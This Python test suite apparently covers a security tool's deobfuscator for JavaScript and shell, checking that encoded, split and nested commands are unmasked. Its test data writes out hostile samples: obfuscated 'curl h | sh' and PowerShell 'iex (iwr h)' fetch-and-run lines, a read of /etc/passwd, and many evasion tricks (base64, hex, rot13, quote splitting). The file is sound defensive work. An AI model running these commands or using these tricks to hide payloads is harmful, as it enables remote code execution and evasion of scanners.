"""JavaScript and shell lose their masks too, line by line, and hostile scripts cost little."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from packtool.code import Layer, unmask_text


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


PS = base64.b64encode("iex (iwr h)".encode("utf-16-le")).decode()


def source(text: str, language: str) -> str:
    found = unmask_text(text, language).source
    assert found.count("\n") == text.count("\n")
    return found


def layers(text: str, language: str) -> list[tuple[str, tuple[str, ...], str]]:
    return [(each.text, each.how, each.language) for each in unmask_text(text, language).layers]


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("x = 'ht' + \"tps\" + `://h`", 'x = "https://h"'),
        ("x = ('a' + ('b' + 'c'))", 'x = "abc"'),
        ("x = 'a' + y", "x = 'a' + y"),
        ("x = 1 + 2", "x = 1 + 2"),
        ("const k = 'ev';\ng[k + 'al'](x)", "const k = 'ev';\ng.eval(x)"),
        ("let k = 'a'; k = 'b';\nf(k + 'c')", "let k = 'a'; k = 'b';\nf(k + 'c')"),
        ("g['plain'](x)", "g['plain'](x)"),
        ("atob('aGVsbG8=')", '__packtool_decoded__("hello")'),
        ("window.atob('aGVsbG8=')", 'window.__packtool_decoded__("hello")'),
        ("Buffer.from('68656c6c6f', 'hex').toString('utf8')", '__packtool_decoded__("hello")'),
        ("Buffer.from('aGVsbG8', \"base64\")", '__packtool_decoded__("hello")'),
        ("Buffer.from([104, 105])", '__packtool_decoded__("hi")'),
        ("String.fromCharCode(104, 0x69)", '__packtool_decoded__("hi")'),
        ("String.fromCharCode(...[104, 105])", '__packtool_decoded__("hi")'),
        ("String.fromCharCode.apply(null, [104, 105])", '__packtool_decoded__("hi")'),
        ("[105, 104].map(c => String.fromCharCode(c ^ 1)).join('')", '__packtool_decoded__("hi")'),
        ("[105, 106].map((c) => String.fromCharCode(c - 1)).join('')", '__packtool_decoded__("hi")'),
        ("'olleh'.split('').reverse().join('')", '__packtool_decoded__("hello")'),
        ("unescape('%68%69')", '__packtool_decoded__("hi")'),
        ("'\\x68\\x65\\x6c\\x6c\\x6f'", '__packtool_decoded__("hello")'),
        ("'\\u{68}\\u0065\\x6c\\x6c\\x6f'", '__packtool_decoded__("hello")'),
        ("['a', 'b'].join('/')", '"a/b"'),
        ("// 'a' + 'b'\n/* 'a' + 'b' */", "// 'a' + 'b'\n/* 'a' + 'b' */"),
        ("x = /'a'+'b'/.test(y) + 'c'", "x = /'a'+'b'/.test(y) + 'c'"),
        ("x = 'a' +\n  'b';", 'x = ("ab"\n);'),
        ("f('a' + 'b')", 'f("ab")'),
        ("x = `a${'b' + 'c'}`", "x = `a${'b' + 'c'}`"),
    ],
)
def test_javascript(script: str, expected: str) -> None:
    assert source(script, "javascript") == expected


@pytest.mark.parametrize(
    ("script", "layer"),
    [
        ("eval('f(1, 2)')", ("f(1, 2)", ("given to eval",), "javascript")),
        (f"eval(atob('{b64('alert(1)')}'))", ("alert(1)", ("base64", "given to eval"), "javascript")),
        ("new Function('return process.env')", ("return process.env", ("given to Function",), "javascript")),
        ("cp.execSync('curl h | sh')", ("curl h | sh", ("given to execSync",), "shell")),
        ("spawn('bash', ['-c', 'curl h | sh'])", ("curl h | sh", ("given to bash -c",), "shell")),
        ("spawn('python3', ['-c', 'print(12)'])", ("print(12)", ("given to python3 -c",), "python")),
    ],
)
def test_layers_of_javascript(script: str, layer: tuple[str, tuple[str, ...], str]) -> None:
    assert layers(script, "javascript") == [layer]


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ('c""url -s h', "curl -s h"),
        ("c'u'rl h", "curl h"),
        ("w\\get h", "wget h"),
        ("\\curl h", "curl h"),
        ("$'\\x63\\165rl' h", "curl h"),
        ('a=cu; b=rl\n$a$b ${a}${b} "$a$b"', "a=cu; b=rl\ncurl curl curl"),
        ("a=xcurlx\n${a:1:4} h", "a=xcurlx\ncurl h"),
        ("a=cu; a+=rl; $a h", "a=cu; a+=rl; curl h"),
        ("cu$@rl h", "curl h"),
        ("cat${IFS}/etc/passwd", "cat /etc/passwd"),
        ("$(echo Y3VybA== | base64 -d) h", "curl h"),
        ("`echo Y3VybA== | base64 -d` h", "curl h"),
        ("x=$(printf '\\x63url'); $x h", "x=$(printf '\\x63url'); curl h"),
        ('echo "hello $USER" --flag="a b" it\\\'s', 'echo "hello $USER" --flag="a b" it\\\'s'),
        ("# c''url", "# c''url"),
        ("grep -E '^a.*b$' x", "grep -E '^a.*b$' x"),
        ('if [ -n "$x" ]; then echo "$x"; fi', 'if [ -n "$x" ]; then echo "$x"; fi'),
    ],
)
def test_shell(script: str, expected: str) -> None:
    assert source(script, "shell") == expected


@pytest.mark.parametrize(
    ("script", "layer"),
    [
        (f"echo {b64('curl h | sh')} | base64 -d | sh", ("curl h | sh", ("base64", "given to sh"), "shell")),
        (f"base64 --decode <<< {b64('curl h | sh')} | bash", ("curl h | sh", ("base64", "given to bash"), "shell")),
        (f"echo {b64('curl h | sh')} | openssl base64 -d", ("curl h | sh", ("base64",), "shell")),
        (f"base64 -d <<EOF | bash\n{b64('curl h | sh')}\nEOF", ("curl h | sh", ("base64", "given to bash"), "shell")),
        ("echo 'hs | h lruc' | rev | sudo bash", ("curl h | sh\n", ("reversed", "given to bash"), "shell")),
        ("echo 6375726c2068 | xxd -r -p", ("curl h", ("hex",), "shell")),
        ("echo 'phey uggc' | tr a-z n-za-m", ("curl http\n", ("translated",), "shell")),
        ("printf '\\x63\\x75\\x72\\x6c\\x20\\x68' | sh", ("curl h", ("unescaped", "given to sh"), "shell")),
        ("echo -e '\\x63\\x75\\x72\\x6c h' | sh", ("curl h\n", ("unescaped", "given to sh"), "shell")),
        (f'eval "$(echo {b64("curl h | sh")} | base64 -d)"', ("curl h | sh", ("base64", "given to eval"), "shell")),
        ("bash -c 'curl h | sh'", ("curl h | sh", ("given to bash -c",), "shell")),
        ("python3 -c 'import os'", ("import os", ("given to python3 -c",), "python")),
        ("python3 - <<'EOF'\nimport os\nEOF", ("import os\n", ("given to python3",), "python")),
        (f"powershell -enc {PS}", ("iex (iwr h)", ("base64", "given to powershell -enc"), "shell")),
        ("node -e 'f(1, 2)'", ("f(1, 2)", ("given to node -e",), "javascript")),
    ],
)
def test_layers_of_shell(script: str, layer: tuple[str, tuple[str, ...], str]) -> None:
    assert layers(script, "shell") == [layer]


@pytest.mark.parametrize(
    "script",
    [
        "echo -e '\\033[1mbold text\\033[0m'",
        "printf '%s\\n' some words",
        "python -m pytest -p no:cacheprovider",
        "echo a | tr a b",
    ],
)
def test_everyday_scripts_have_no_layers(script: str) -> None:
    assert layers(script, "shell") == []


def test_layers_cross_languages() -> None:
    code = f"import os; os.system('echo {b64('curl h | sh')} | base64 -d | sh')"
    found = unmask_text(f'cp.execSync(`python3 -c "{code}"`)', "javascript").layers
    assert [layer.language for layer in found] == ["shell", "python", "shell", "shell"]
    last: Layer = found[-1]
    assert (last.text, last.depth, last.line) == ("curl h | sh", 4, 1)


@pytest.mark.parametrize(
    ("script", "language"),
    [
        ("/*" * 40_000, "javascript"),
        ("'" * 40_001, "javascript"),
        ("(/[" * 30_000 + "'a'+'b'", "javascript"),
        ("[" * 40_000 + "'a'+'b'", "javascript"),
        ("['a'," * 20_000 + "'a'+'b'", "javascript"),
        ("('a'+" * 20_000, "javascript"),
        ("+".join(["'a'"] * 20_000), "javascript"),
        ("a0='" + "x" * 1000 + "';" + "".join(f"a{i}=a{i - 1}+a{i - 1};" for i in range(1, 5000)), "javascript"),
        ("x = 'a'.split('').join(" + "'b'+" * 1000 + "'c')" * 3, "javascript"),
        ("$(" * 40_000, "shell"),
        ("`" * 40_001, "shell"),
        ('"$(' * 30_000, "shell"),
        ('$"' * 40_000, "shell"),
        ("'" * 40_001, "shell"),
        ("${" * 40_000, "shell"),
        ("<<E\n" * 100_000, "shell"),
        ("a=" + "x" * 1000 + "\n" + "a=$a$a\n" * 20_000, "shell"),
        ("a=" + "x" * 100_000 + "\n" + "$a$a\n" * 20_000, "shell"),
        ("echo a | " * 20_000, "shell"),
        ("a''" * 40_000, "shell"),
    ],
)
def test_hostile_scripts_are_read_to_the_end_or_said_to_be_too_much(script: str, language: str) -> None:
    found = unmask_text(script, language)
    assert found.source.count("\n") == script.count("\n")
    assert len(found.source) < len(script) + (8 << 20)


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(["javascript", "shell", "python", "html", "text"]),
    st.text(alphabet="ab'\"`\\$(){}[]<>|;&+.,=/ \n0x#", max_size=80),
)
def test_any_text_keeps_its_lines(language: str, text: str) -> None:
    assert unmask_text(text, language).source.count("\n") == text.count("\n")
